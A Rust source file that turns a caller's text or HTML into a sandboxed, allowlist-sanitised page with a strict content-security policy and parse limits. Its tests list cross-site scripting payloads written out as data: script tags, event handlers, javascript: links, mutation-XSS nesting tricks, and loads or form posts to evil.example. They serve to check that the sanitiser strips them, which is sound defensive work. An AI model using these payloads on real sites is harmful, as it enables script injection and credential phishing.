//! A caller's own words, made harmless: text and simple HTML, nothing that runs, loads, links or looks like a part of the console.
//!
//! This is the first of three walls: the page it makes is served with a policy that allows nothing, into a frame with an empty `sandbox`.
//! Invariant: the time is bounded: what is too long or too deeply nested to be parsed quickly is shown as text.

use std::{collections::HashSet, sync::LazyLock};

use ammonia::Builder;
use base64::{Engine as _, prelude::BASE64_STANDARD};

use crate::domain::audit::Sha256;

/// The longest HTML that is parsed, in bytes; of longer words the beginning is shown, as text.
const HTML_MAX: usize = 256 * 1024;
/// The most tags that are parsed: a parser looks back over all that are open.
const TAGS_MAX: usize = 4_000;

const TAGS: [&str; 43] = [
    "abbr",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "ins",
    "kbd",
    "li",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "small",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
];
const MORE_TAGS: [&str; 5] = ["tfoot", "thead", "tr", "u", "ul"];
/// None of them takes an address or a style.
const ATTRIBUTES: [&str; 7] = ["align", "colspan", "dir", "lang", "rowspan", "start", "title"];

const STYLE: &str = ":root{color-scheme:light dark}body{font:16px/1.5 system-ui,sans-serif;color:#1b2227;background:#fff;margin:12px;\
overflow-wrap:anywhere}table{border-collapse:collapse}td,th{border:1px solid #8888;padding:4px 8px;text-align:left}pre{white-space:pre-wrap;\
font:inherit;margin:0}@media(prefers-color-scheme:dark){body{color:#e3e8eb;background:#12171a}}";

/// The policy of the page: its one style sheet, and nothing else.
pub(super) static WORDS_POLICY: LazyLock<String> = LazyLock::new(|| {
    let hash = BASE64_STANDARD.encode(Sha256::of(STYLE.as_bytes()).as_bytes());
    format!("sandbox; default-src 'none'; style-src 'sha256-{hash}'; form-action 'none'; base-uri 'none'; frame-ancestors 'self'")
});

static HARMLESS: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(TAGS.into_iter().chain(MORE_TAGS).collect())
        .generic_attributes(ATTRIBUTES.into_iter().collect())
        .clean_content_tags(
            ["script", "style", "title", "template", "iframe", "noscript", "svg", "math", "textarea", "select"].into_iter().collect(),
        )
        .url_schemes(HashSet::new())
        .link_rel(None);
    builder
});

/// The words as a whole page.
pub(super) fn harmless_page(words: &str) -> String {
    let shown = if is_html(words) { HARMLESS.clean(words).to_string() } else { as_text(words) };
    format!(
        "<!doctype html><html><head><meta charset=\"utf-8\"><title>What the caller says</title><style>{STYLE}</style></head><body>{shown}</body></html>"
    )
}

fn is_html(words: &str) -> bool {
    let tags = words.bytes().filter(|byte| *byte == b'<').count();
    (1..=TAGS_MAX).contains(&tags) && words.len() <= HTML_MAX
}

fn as_text(words: &str) -> String {
    let end = words.floor_char_boundary(HTML_MAX);
    let cut = if end < words.len() { "\n…" } else { "" };
    format!("<pre>{}{cut}</pre>", escaped(&words[..end]))
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_runs_loads_sends_or_styles_is_gone() {
        let hostile = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<img src='https://evil.example/x.png'>",
            "<svg onload=alert(1)><circle/></svg>",
            "<form action='https://evil.example'><input name=a><button>Log in</button></form>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
            "<p style='background:url(https://evil.example)'>x</p>",
            "<style>p{background:url(//evil.example)}</style>",
            "<a href='javascript:alert(1)'>x</a>",
            "<a href='https://evil.example'>x</a>",
            "<iframe src='https://evil.example'></iframe>",
            "<object data='https://evil.example'></object>",
            "<link rel=stylesheet href='https://evil.example'>",
            "<base href='https://evil.example'>",
            "<video src='https://evil.example'></video>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<div id=main class=notice onclick=alert(1)>x</div>",
            "</body></html><script>alert(1)</script>",
        ];
        for words in hostile {
            let page = harmless_page(words);
            let (_, body) = page.split_once("<body>").unwrap();
            for bad in [
                "<script", "<img", "<svg", "<form", "<input", "<button", "<meta", "<style", "<a", "<iframe", "<object", "<link", "<base",
                "<video", " style", " onclick", " class", " id",
            ] {
                assert!(!body.contains(bad), "{words} → {body}");
            }
        }
    }

    #[test]
    fn plain_words_and_simple_html_stay() {
        assert!(harmless_page("two\nlines & more").contains("<pre>two\nlines &amp; more</pre>"));
        let page = harmless_page("<h1 lang=uk>Договір</h1><table><tr><td colspan=2>100 &euro;</td></tr></table>");
        assert!(page.contains("<h1 lang=\"uk\">Договір</h1>") && page.contains("<td colspan=\"2\">100 €</td>"), "{page}");
    }

    #[test]
    fn what_is_too_much_to_parse_is_shown_as_text() {
        let nested = "<div>".repeat(200_000);
        let page = harmless_page(&nested);
        assert!(page.contains("<pre>&lt;div&gt;") && page.len() < 2 * 1024 * 1024);
        assert!(harmless_page(&"ї".repeat(HTML_MAX)).ends_with("\n…</pre></body></html>"));
    }
}
